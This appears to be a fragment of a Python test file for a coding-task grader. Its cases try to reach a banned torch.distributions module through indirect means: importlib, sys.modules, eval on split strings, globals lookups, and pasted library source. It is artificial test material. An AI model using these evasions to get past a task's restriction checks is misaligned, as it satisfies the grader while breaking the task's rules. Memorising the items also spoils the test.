forbidden(
    "importlib",
    "by importlib",
    DEF.replace("torch.distributions", "importlib.import_module('torch.' + 'distributions')"),
    "import importlib",
    found=False,
)
forbidden(
    "modules",
    "by sys.modules",
    DEF.replace("torch.distributions", "sys.modules['torch.' + 'distributions']"),
    "import sys",
    found=False,
)
forbidden(
    "eval",
    "by eval",
    "def normal_log_prob(z):\n    return eval(f'torch.{word}.Normal(0.0, 1.0)').log_prob(z)",
    "word = 'distri' + 'butions'",
    found=False,
)
forbidden(
    "globals",
    "by globals",
    DEF.replace("torch.distributions", "vars(globals()['torch'])['distri' + 'butions']"),
    found=False,
)
forbidden(
    "copied",
    "copied from flowlib's own source",
    f"{TASKS['task2']}\n\n{inspect.getsource(Linear)}",
    "from flowlib.bijection import *",
    found=False,
)
